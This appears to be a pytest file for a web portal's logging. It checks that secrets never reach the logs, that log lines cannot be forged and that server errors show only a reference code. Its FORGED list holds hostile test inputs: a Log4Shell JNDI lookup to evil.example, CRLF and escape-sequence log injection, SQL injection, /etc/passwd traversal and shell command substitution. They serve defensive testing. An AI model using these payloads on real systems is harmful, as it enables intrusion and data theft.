"""Logs and errors: a whole visit leaves nothing of what was typed, and an accident tells a reference alone."""

import io
import json
import logging
import re
import sys
from collections.abc import Iterator

import pytest
import structlog
from sqlalchemy.exc import DataError, IntegrityError, InternalError, OperationalError, ProgrammingError
from starlette.applications import Starlette

from portal.platform import db, log
from tests.client import Client
from tests.make import access as make
from tests.make import cases as make_cases
from tests.make import demo
from tests.make.cases import Cases, people

FORGED = (
    "\r\nforged line",
    "\nforged line",
    "\r",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31m",
    '"} {"event": "forged"',
    '", "level": "critical',
    "\\u000aforged",
    "%0d%0aforged",
    "%0aforged",
    "\u2028forged",
    "\u2029forged",
    "\u0085forged",
    "\x00forged",
    "\x08\x08\x08",
    "\x7f",
    "\u202eforged",
    "\u200bforged",
    "\ufeffforged",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "%s%s%s%n",
    "{0}{event}",
    "<script>alert(1)</script>",
    "'; DROP TABLE audit_log; --",
    "../../etc/passwd",
    "a" * 5000,
    "\t\tforged",
    "\v\fforged",
    "null",
    "true",
    "[]",
    "{}",
    "\\",
    '\\"',
    "'",
    "`id`",
    "$(id)",
    "；伪造",
)
FAULTS = tuple(
    made(f"secret {number}")
    for number, made in enumerate(
        (RuntimeError, ValueError, KeyError, TypeError, AttributeError, ZeroDivisionError, LookupError, IndexError)
    )
) + tuple(
    kind("SELECT secret FROM person", {"mobile": "13800000001"}, Exception("secret (mobile)=(13800000001)"))
    for kind in (IntegrityError, DataError, ProgrammingError, InternalError, OperationalError)
)
PLACES = ("/account", "/devices", "/staff/")
TELLING = re.compile(r"secret|Traceback|\.py\b|SELECT|sqlalchemy|starlette|psycopg|sqlite|Error\b", re.IGNORECASE)
REFERENCE = re.compile(r"[2-9B-Z]{3}-[2-9B-Z]{3}")


@pytest.fixture
def written(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """What a production log writes meanwhile; loggers keep their first stream, so all are made anew."""
    root = logging.getLogger()
    handlers, level = root.handlers, root.level
    structlog.reset_defaults()
    stream = io.StringIO()
    log.set_up(as_json=True, stream=stream)
    for name, module in list(sys.modules.items()):
        if name.startswith("portal.") and hasattr(module, "_log"):
            monkeypatch.setattr(module, "_log", structlog.get_logger(name))
    yield stream
    structlog.reset_defaults()
    root.handlers, root.level = handlers, level


def test_a_whole_visit_leaves_no_secret_in_the_log(
    besieged: Starlette, nobody: Client, cases: Cases, written: io.StringIO
) -> None:
    """SL-19, ST-16: link, code, birth date, digits, number, name, marks, password: none of them, nor a path."""
    doors = besieged.state.portal.doors
    member = make.staff(doors, "canary", display_name="Canary Bird", roles=("supervisor",))
    ref = make_cases.link(besieged, people.TWO_CURRENCIES)
    guest = nobody.another(headers={"Accept-Language": "en"})
    page = guest.follow(guest.submit(guest.get(f"/l/{ref}")))
    page = guest.follow(guest.submit(page, make_cases.answers(people.TWO_CURRENCIES)))
    code = make_cases.newest_code(besieged)
    guest.submit(page, {"code": code})
    guest.submit(guest.get("/start"), {"number": people.TWO_CURRENCIES.mobile})
    office = nobody.another(headers={"Accept-Language": "en"})
    entries = {"name": member.name, "password": member.password, "code": member.code(besieged.state.portal.clock.now())}
    assert office.submit(office.get("/staff/sign-in"), entries).status_code == 303
    office.submit(office.get("/staff/people"), {"name": people.TWO_CURRENCIES.name, "because": "check"}, form="/people")
    marks = [*guest.http.cookies.values(), *office.http.cookies.values()]
    born = people.TWO_CURRENCIES.birth_date
    secrets = (
        ref,
        code,
        str(born),
        people.TWO_CURRENCIES.id_last4,
        people.TWO_CURRENCIES.mobile,
        member.password,
        *marks,
    )
    told = written.getvalue()
    assert told.count('"event": "request"') > 10
    assert not [secret for secret in (*secrets, people.TWO_CURRENCIES.name, "/l/", "/staff/people") if secret in told]


def test_no_line_of_the_log_can_be_forged(nobody: Client, cases: Cases, written: io.StringIO) -> None:
    """ST-16: in path, query, header and field; one JSON line a request, each with an instant in UTC."""
    assert len(FORGED) >= 40
    visitor = nobody.another(check=False)
    for payload in FORGED:
        quoted = "".join(f"%{byte:02X}" for byte in payload.encode("utf-8"))
        visitor.get(f"/disputes/{quoted}")
        visitor.get(f"/start?next={quoted}")
        header = payload.encode("ascii", "ignore").decode().translate({ord(mark): "" for mark in "\r\n\x00"})
        visitor.get("/start", headers={"User-Agent": header, "X-Forwarded-For": header})
        visitor.post("/start", {"form_token": payload, "number": payload})
    lines = written.getvalue().splitlines()
    assert len(lines) == 4 * len(FORGED)
    for line in lines:
        found = json.loads(line)
        assert found["event"] == "request"
        assert found["level"] == "info"
        assert found["timestamp"].endswith("Z")
        assert line.isprintable()


def test_an_accident_tells_a_reference_and_is_logged_once(
    besieged: Starlette, nobody: Client, cases: Cases, written: io.StringIO, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CF-04: thirty-nine accidents, no trace, statement, path or version in an answer, each to be found in the log."""
    visitors = {
        "/account": demo.as_person(besieged, nobody, cases.owner),
        "/devices": demo.as_person(besieged, nobody, cases.owner),
        "/staff/": demo.as_staff(besieged, nobody, "supervisor"),
    }
    references = []
    for place in PLACES:
        for fault in FAULTS:

            async def broken(*_given: object, fault: Exception = fault) -> None:
                raise fault

            with monkeypatch.context() as patch:
                patch.setattr(db, "read", broken)
                answer = visitors[place].get(place)
            assert answer.status_code in {500, 503}
            assert not TELLING.search(re.sub(r'(?:src|href|value)="[^"]*"', "", answer.text)), answer.text
            found = REFERENCE.search(answer.text)
            assert found
            references.append(found[0])
    assert len(references) >= 30
    told = [json.loads(line) for line in written.getvalue().splitlines()]
    failures = [each["reference"] for each in told if each["event"] == "request_failed"]
    assert failures == references
    assert "13800000001" not in written.getvalue()


def test_the_log_would_show_a_secret(written: io.StringIO) -> None:
    """The control: what is logged can be found."""
    structlog.get_logger("x").info("request", path="/l/canary")
    assert "/l/canary" in written.getvalue()
